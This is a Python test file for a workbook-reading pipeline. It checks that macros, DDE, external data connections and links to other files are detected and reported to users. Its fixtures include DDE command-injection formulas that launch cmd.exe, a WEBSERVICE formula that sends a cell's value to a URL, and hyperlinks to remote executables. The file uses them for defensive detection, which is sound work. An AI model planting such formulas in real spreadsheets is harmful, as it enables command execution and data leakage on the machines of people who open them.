"""Macros, DDE and links to other files in a workbook are said, so that nobody opens it unwarned (F016)."""

from __future__ import annotations

import struct
from io import BytesIO
from pathlib import Path

import pytest
import xlsxwriter

from pipeline.workbook.marking import copies
from pipeline.workbook.reading import files, live_content
from pipeline.workbook.reading.live_content import DDE, MACROS, OTHER_DATA, OTHER_FILES
from tests.support import rich_workbooks
from tests.support.records import UNITS
from tests.support.rich_workbooks import parts, zipped
from tests.support.typed_values import by_libreoffice

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"


def said(tmp_path: Path, content: bytes, name: str = "สพบ.xlsx") -> list[tuple[str, str]]:
    path = tmp_path / name
    path.write_bytes(content)
    book, findings = files.read(path)
    assert book is not None
    assert {finding.code for finding in findings} <= {"F016"}
    return [(finding.words["what"], finding.place.cell) for finding in findings]


def with_formula(formula: str) -> bytes:
    stream = BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        book.add_worksheet("หมวด 7").write_formula("K12", formula, value=1)
    return stream.getvalue()


def with_link(url: str) -> bytes:
    stream = BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        book.add_worksheet("หลักฐาน").write_url("A1", url)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("formula", "what"),
    [
        ("=cmd|'/C calc'!A0", DDE),
        ("=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", DDE),
        ('=WEBSERVICE("http://example.org/"&A1)', OTHER_DATA),
        ('=HYPERLINK("\\\\server\\share\\x.exe","เปิด")', OTHER_FILES),
        ('=HYPERLINK("file:///c:/x.exe")', OTHER_FILES),
        ("=[1]แผ่น1!A1", OTHER_FILES),
        ("='C:\\งาน\\[ข้อมูล.xlsx]แผ่น1'!A1", OTHER_FILES),
    ],
)
def test_a_formula_that_reaches_out_is_said_with_its_cell(formula: str, what: str, tmp_path: Path) -> None:
    assert said(tmp_path, with_formula(formula)) == [(what, "K12")]


@pytest.mark.parametrize(
    "formula", ['=IF(A1="ก|ข!",1,0)', "=SUM(ตาราง[ผล])", "='แผ่น 2'!A1", '=HYPERLINK("https://example.org")', "=A1*2"]
)
def test_a_formula_within_the_workbook_is_not_said(formula: str, tmp_path: Path) -> None:
    assert said(tmp_path, with_formula(formula)) == []


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("external:\\\\server\\share\\แฟ้ม.xlsx", [(OTHER_FILES, "")]),
        ("external:c:/งาน/แฟ้ม.xlsx", [(OTHER_FILES, "")]),
        ("https://example.org/หลักฐาน", []),
        ("mailto:a@example.org", []),
    ],
)
def test_a_link_to_a_file_is_said_and_one_to_a_page_is_not(url: str, expected: list[object], tmp_path: Path) -> None:
    assert said(tmp_path, with_link(url)) == expected


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', DDE),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink><externalBook/></externalLink>", OTHER_FILES),
        ("xl/connections.xml", b"<connections/>", OTHER_DATA),
        ("xl/macrosheets/sheet1.xml", b"<macrosheet/>", MACROS),
    ],
)
def test_a_part_that_acts_is_said(name: str, content: bytes, what: str, tmp_path: Path) -> None:
    members = parts(rich_workbooks.by_openpyxl()) | {name: content}
    assert (what, "") in said(tmp_path, zipped(members))


def test_macros_are_said_and_stay_in_the_marked_copy(tmp_path: Path) -> None:
    sent = rich_workbooks.with_macros()
    assert (MACROS, "") in said(tmp_path, sent, "สพบ.xlsm")
    copy = copies.marked_copy(sent, (), UNITS[2])
    assert (MACROS, "") in said(tmp_path, copy.content, "คืน.xlsm")


@pytest.mark.parametrize(
    ("record", "kinds"),
    [
        (struct.pack("<HH", 0x1AE, 4) + b"\1\0\1\4", []),
        (struct.pack("<HH", 0x1AE, 4) + b"\1\0\1\x3a", []),
        (struct.pack("<HH", 0x1AE, 10) + b"\0\0\5\0\0cmd\3/", [DDE]),
        (struct.pack("<HH", 0x1AE, 10) + b"\1\0\5\0\0a.xls", [OTHER_FILES]),
        (struct.pack("<HH", 0xD3, 0), [MACROS]),
        (b"\x0a\0\0\0" + struct.pack("<HH", 0xD3, 0), []),
        (b"\xae", []),
    ],
)
def test_the_records_of_an_old_workbook_tell_too(record: bytes, kinds: list[str]) -> None:
    assert list(live_content._of_records(record)) == kinds


@pytest.mark.soffice
@pytest.mark.parametrize("ending", ["xls", "ods"])
def test_a_link_to_another_workbook_is_said_in_other_formats(ending: str, tmp_path: Path) -> None:
    content = by_libreoffice(with_formula("='file:///c:/งาน/[ข้อมูล.xlsx]แผ่น1'!A1"), tmp_path, ending)
    assert OTHER_FILES in {what for what, _ in said(tmp_path, content, f"สพบ.{ending}")}
